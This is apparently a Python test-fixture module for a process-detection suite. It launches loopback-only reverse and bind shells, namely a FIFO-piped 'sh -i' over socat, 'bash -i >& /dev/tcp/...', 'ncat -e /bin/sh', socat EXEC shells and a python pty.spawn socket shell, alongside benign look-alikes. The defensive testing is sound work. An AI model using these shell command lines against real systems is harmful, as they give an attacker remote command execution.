"""Section 4 scenarios of ipc-abuse.md and section 5 look-alikes, on loopback only.

Each function starts real processes through ``Procs`` (which stops them by recorded pid)
and returns the pids the test looks at once everything is wired up. Listeners are small
Python programs on 127.0.0.1 with a kernel-chosen port, standing in for ``nc -l``.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

from tests.detection.live import Procs, comm, descendants, fd_target, wait_until

# `nc -l 127.0.0.1 PORT` stand-in: accept one connection, keep it on stdin and stdout
# (as a terminal-attached nc would relay it), swallow what arrives.
TCP_LISTENER = """
import os, socket, sys, time
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1)
print(listener.getsockname()[1], flush=True)
conn, _ = listener.accept()
os.dup2(conn.fileno(), 0)
os.dup2(conn.fileno(), 1)
while conn.recv(4096):
    pass
time.sleep(120)
"""

PTY_SHELL = (
    "import socket,os,pty;s=socket.socket(socket.AF_UNIX);s.connect({path!r});"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)


@dataclass
class Scene:
    """Pids of interest and the IPC objects a scenario created."""

    target: int
    parent: int | None = None
    extra: dict[str, int] = field(default_factory=dict)
    paths: dict[str, str] = field(default_factory=dict)


def cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
    except OSError:
        return ""


def find(root: int, name: str, contains: str = "") -> int:
    """A descendant of ``root`` with comm ``name`` and ``contains`` in its cmdline; the
    topmost one, not a subshell it forked (``bash -li`` forks while reading its profile)."""
    found: list[int] = []

    def look() -> bool:
        found[:] = [
            p
            for p in reversed(descendants(root))  # parents before children
            if comm(p) == name and contains in cmdline(p)
        ]
        return bool(found)

    wait_until(look, what=f"{name} {contains!r} under {root}")
    return found[0]


def tcp_listener(procs: Procs) -> tuple[subprocess.Popen[bytes], int]:
    proc = procs.spawn([sys.executable, "-c", TCP_LISTENER], stdout=subprocess.PIPE)
    assert proc.stdout is not None
    port = int(proc.stdout.readline())
    return proc, port


def fifo_reverse_shell(procs: Procs, tmp: Path) -> Scene:
    """1: cat FIFO | sh -i 2>&1 | <client to listener> > FIFO (socat as the nc client)."""
    listener, port = tcp_listener(procs)
    fifo = tmp / "f"
    os.mkfifo(fifo)
    line = f"cat {fifo} | /bin/sh -i 2>&1 | socat - TCP:127.0.0.1:{port} >{fifo}"
    outer = procs.spawn(["/bin/sh", "-c", line])
    shell = find(outer.pid, "sh", "-i")
    cat = find(outer.pid, "cat")
    wait_until(lambda: fd_target(cat, 3) == str(fifo), what="cat reading the FIFO")
    wait_until(lambda: fd_target(listener.pid, 0).startswith("socket:"), what="accept")
    return Scene(
        target=shell,
        parent=outer.pid,
        extra={"cat": cat, "listener": listener.pid},
        paths={"fifo": str(fifo)},
    )


def dev_tcp_shell(procs: Procs) -> Scene:
    """2: bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'."""
    listener, port = tcp_listener(procs)
    outer = procs.spawn(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
    shell = find(outer.pid, "bash", "-i")
    wait_until(lambda: fd_target(shell, 0).startswith("socket:"), what="bash on the socket")
    wait_until(lambda: fd_target(listener.pid, 0).startswith("socket:"), what="accept")
    return Scene(target=shell, extra={"listener": listener.pid}, paths={"port": str(port)})


def socat_unix_exec(procs: Procs, tmp: Path) -> Scene:
    """3: socat UNIX-LISTEN:sock,fork EXEC:/bin/sh and a client."""
    sock = tmp / "ipc.sock"
    server = procs.spawn(["socat", f"UNIX-LISTEN:{sock},fork", "EXEC:/bin/sh"])
    wait_until(sock.exists, what="socat socket")
    feeder = procs.spawn(["sleep", "120"], stdout=subprocess.PIPE)
    client = procs.spawn(["socat", "-", f"UNIX-CONNECT:{sock}"], stdin=feeder.stdout)
    shell = find(server.pid, "sh")
    handler = int(Path(f"/proc/{shell}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return Scene(
        target=shell,
        parent=handler,
        extra={"server": server.pid, "client": client.pid},
        paths={"socket": str(sock)},
    )


def socat_tcp_pty(procs: Procs) -> Scene:
    """5: socat TCP-LISTEN EXEC:'bash -li',pty,stderr,setsid,sigint,sane plus a client."""
    port = free_port()
    server = procs.spawn(
        [
            "socat",
            f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork",
            "EXEC:bash -li,pty,stderr,setsid,sigint,sane",
        ]
    )
    wait_until(lambda: listening(port), what="socat listening")
    feeder = procs.spawn(["sleep", "120"], stdout=subprocess.PIPE)
    procs.spawn(["socat", "-", f"TCP:127.0.0.1:{port}"], stdin=feeder.stdout)
    shell = find(server.pid, "bash", "-li")
    wait_until(lambda: fd_target(shell, 0).startswith("/dev/pts/"), what="bash on a pty")
    return Scene(target=shell, extra={"server": server.pid})


def free_port() -> int:
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port: int = probe.getsockname()[1]
    probe.close()
    return port


def listening(port: int) -> bool:
    return f":{port:04X} " in Path("/proc/net/tcp").read_text()


def ncat_exec(procs: Procs) -> Scene:
    """6: ncat -l 127.0.0.1 PORT -e /bin/sh plus a client."""
    port = free_port()
    server = procs.spawn(["ncat", "-l", "127.0.0.1", str(port), "-e", "/bin/sh"])
    wait_until(lambda: listening(port), what="ncat listening")
    feeder = procs.spawn(["sleep", "120"], stdout=subprocess.PIPE)
    procs.spawn(["ncat", "127.0.0.1", str(port)], stdin=feeder.stdout)
    return Scene(target=find(server.pid, "sh"), parent=server.pid)


def fifo_command_channel(procs: Procs, where: Path) -> Scene:
    """7: sh <>FIFO >out 2>&1, then a command written into the FIFO."""
    fifo = where / ".c"
    out = where / "fifo.out"
    os.mkfifo(fifo)
    shell = procs.spawn(["/bin/sh", "-c", f"exec /bin/sh <>{fifo} >{out} 2>&1"])
    wait_until(lambda: fd_target(shell.pid, 0) == str(fifo), what="sh on the FIFO")
    fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(fd, b"id\nsleep 120\n")
    finally:
        os.close(fd)
    sleeper = find(shell.pid, "sleep")
    return Scene(target=shell.pid, extra={"sleep": sleeper}, paths={"fifo": str(fifo)})


def python_pty_over_unix(procs: Procs, tmp: Path) -> Scene:
    """8: socat UNIX-LISTEN:p.sock - and python3 pty.spawn over a unix socket."""
    sock = tmp / "p.sock"
    feeder = procs.spawn(["sleep", "120"], stdout=subprocess.PIPE)
    server = procs.spawn(["socat", f"UNIX-LISTEN:{sock}", "-"], stdin=feeder.stdout)
    wait_until(sock.exists, what="socat socket")
    python = procs.spawn([sys.executable, "-c", PTY_SHELL.format(path=str(sock))])
    shell = find(python.pid, "sh")
    wait_until(lambda: fd_target(python.pid, 0).startswith("socket:"), what="python on socket")
    return Scene(
        target=python.pid, extra={"shell": shell, "server": server.pid}, paths={"socket": str(sock)}
    )


def cgi_web_server(procs: Procs, tmp: Path) -> Scene:
    """10: python3 -m http.server --cgi with a shell CGI script, requested with curl."""
    tmp.chmod(0o755)  # the CGI handler drops to nobody when run as root
    script = tmp / "cgi-bin" / "t.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho 'Content-Type: text/plain'\necho\nwhoami\nsleep 120\n")
    script.chmod(0o755)
    port = free_port()
    server = procs.spawn(
        [sys.executable, "-m", "http.server", "--cgi", "--bind", "127.0.0.1", str(port)], cwd=tmp
    )
    wait_until(lambda: listening(port), what="web server listening")
    procs.spawn(["curl", "-s", "-m", "120", f"http://127.0.0.1:{port}/cgi-bin/t.sh"])
    shell = find(server.pid, "t.sh")
    return Scene(target=shell, parent=server.pid)


# -- benign look-alikes ------------------------------------------------------------------


def make_recipe(procs: Procs, tmp: Path) -> Scene:
    """make running a recipe through /bin/sh, output on pipes to its caller."""
    (tmp / "Makefile").write_text("all:\n\tsleep 120; true\n")
    make = procs.spawn(["make", "-C", str(tmp)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    shell = find(make.pid, "sh")
    return Scene(target=shell, parent=make.pid)


def cat_file_into_shell(procs: Procs, tmp: Path) -> Scene:
    """A CI-style step: cat a local script into sh (cat kept alive on a pipe)."""
    script = tmp / "step.sh"
    script.write_text("sleep 120\n")
    outer = procs.spawn(["/bin/sh", "-c", f"cat {script} - | /bin/sh"], stdin=subprocess.PIPE)
    shell = find(outer.pid, "sh")
    cat = find(outer.pid, "cat")
    find(shell, "sleep")
    return Scene(target=shell, parent=outer.pid, extra={"cat": cat})


def language_server(procs: Procs) -> Scene:
    """An interpreter child speaking over stdin/stdout pipes to its parent (an LSP)."""
    child = procs.spawn(
        [sys.executable, "-c", "import sys; sys.stdin.read()"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    wait_until(lambda: fd_target(child.pid, 0).startswith("pipe:"), what="stdin pipe")
    return Scene(target=child.pid, parent=os.getpid())


def tmux_session(procs: Procs) -> Scene:
    """A tmux server on its own socket name running a shell."""
    name = f"fleetctl-test-{os.getpid()}"
    subprocess.run(
        ["tmux", "-L", name, "new-session", "-d", "sh"],
        check=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    shown = subprocess.run(
        ["tmux", "-L", name, "display", "-p", "#{pid} #{pane_pid}"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    server, shell = int(shown[0]), int(shown[1])
    procs.adopt([shell, server], stop_command=["tmux", "-L", name, "kill-server"])
    return Scene(target=shell, parent=server)
